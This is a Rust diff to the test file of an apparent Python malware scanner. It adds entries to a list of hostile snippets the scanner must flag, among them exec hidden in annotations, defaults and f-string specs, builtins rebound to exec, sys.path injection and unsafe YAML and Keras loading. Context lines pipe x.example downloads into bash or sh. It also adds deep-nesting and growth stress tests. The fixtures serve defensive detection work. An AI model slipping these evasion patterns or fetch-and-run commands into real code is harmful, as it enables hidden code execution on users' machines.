@@ -274,6 +274,22 @@ const HOSTILE: &[&str] = &[
     "import requests\nexec(requests.get('https://x.example').text)\n",
     "import subprocess\nsubprocess.run('curl https://x.example | bash', shell=True)\n",
     "import os\nos.system('wget -qO- https://x.example|sh')\n",
+    "x: exec('pass') = 1\n",
+    "def f(x: exec('pass')) -> None: pass\n",
+    "f = lambda x=exec('pass'): 0\n",
+    "x = f'{1:{exec(\"pass\")}}'\n",
+    "y[exec('pass'):2]\n",
+    "class A(exec('pass') or object): pass\n",
+    "def f(x=eval('1')): pass\n",
+    "del x[exec('pass')]\n",
+    "__getattr__ = exec\n",
+    "import builtins\nbuiltins.print = exec\nprint('pass')\n",
+    "__builtins__.__dict__.update(print=exec)\n",
+    "import sys\nsys.excepthook = exec\n",
+    "import weakref, os\nweakref.finalize(A(), os.system, 'true')\n",
+    "import sys\nsys.path.insert(0, '/tmp/x')\nimport payload\n",
+    "from ruamel.yaml import YAML\nYAML(typ='unsafe').load('x')\n",
+    "import keras\nkeras.models.load_model('x', safe_mode=False)\n",
     "import http.server\nhttp.server.HTTPServer(('', 8000), None)\n",
 ];
 
@@ -344,6 +360,66 @@ fn what_looks_alike_is_not_found() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n--\n"));
+}
+
+#[test]
+fn sources_as_deep_as_is_read_end_well() {
+    let n = 2900;
+    let sources = [
+        format!("x = {}1{}", "(".repeat(1400), ")".repeat(1400)),
+        format!("x = {}1{}", "[".repeat(1400), "]".repeat(1400)),
+        format!("x = {}1{}", "f(".repeat(1400), ")".repeat(1400)),
+        format!("x = {}1", "-".repeat(n)),
+        format!("x = {}1", "not ".repeat(n)),
+        format!("x = a{}", ".b".repeat(n)),
+        format!("x = a{}", "()".repeat(n / 2)),
+        format!("x = a{}", "[0]".repeat(n / 2)),
+        format!("x = a{}", " + a".repeat(n)),
+        format!("x = a{}", " ** a".repeat(n)),
+        format!("x = {}1", "lambda: ".repeat(n / 2)),
+        format!("x = {}1", "a if b else ".repeat(n / 2)),
+        format!("x = {}1", "await ".repeat(n)),
+        format!("x = {}{}", "{1: ".repeat(900), "}".repeat(900)),
+        format!("x = a{}", " and b or c".repeat(n / 2)),
+        (0..100)
+            .map(|k| format!("{}if x:\n", " ".repeat(k)))
+            .collect::<String>(),
+        (0..100)
+            .map(|k| format!("{}def f(x):\n", " ".repeat(k)))
+            .collect::<String>(),
+        (0..100)
+            .map(|k| format!("{}for x in x:\n", " ".repeat(k)))
+            .collect::<String>(),
+        (0..100)
+            .map(|k| format!("{}class A:\n", " ".repeat(k)))
+            .collect::<String>(),
+    ];
+    for source in sources {
+        let file = PythonSource {
+            path: "deep.py".to_string(),
+            bytes: source.into_bytes(),
+        };
+        on_a_large_stack(vec![file]);
+    }
+}
+
+#[test]
+fn values_that_hold_each_other_stay_small() {
+    let doubled: String = (0..60)
+        .map(|_| "x = [x, x]\ny = {'a': y, 'b': y}\nz = z + z\nw = w * 9\n")
+        .collect();
+    let source = format!(
+        "import functools\nx = y = z = w = 'a'\n{doubled}p = functools.partial(print)\n{}",
+        "p = functools.partial(p, p, p)\n".repeat(60)
+    );
+    let loops = format!(
+        "{}        x = [x, x]\n",
+        "for a in x:\n  for b in a:\n    for c in b:\n      for d in c:\n"
+    );
+    scan_one(&format!("{source}{loops}"));
+    // A function that returns what it is given twice, called on its own result.
+    let calls = "def f(x):\n    return [x, x]\n".to_string() + &"y = f(f(f(y)))\n".repeat(50);
+    scan_one(&calls);
 }
 
 /// Changes sources at random and scans them: `COMFY_FUZZ_SECONDS=1200 cargo test fuzz_python -- --ignored --nocapture`.
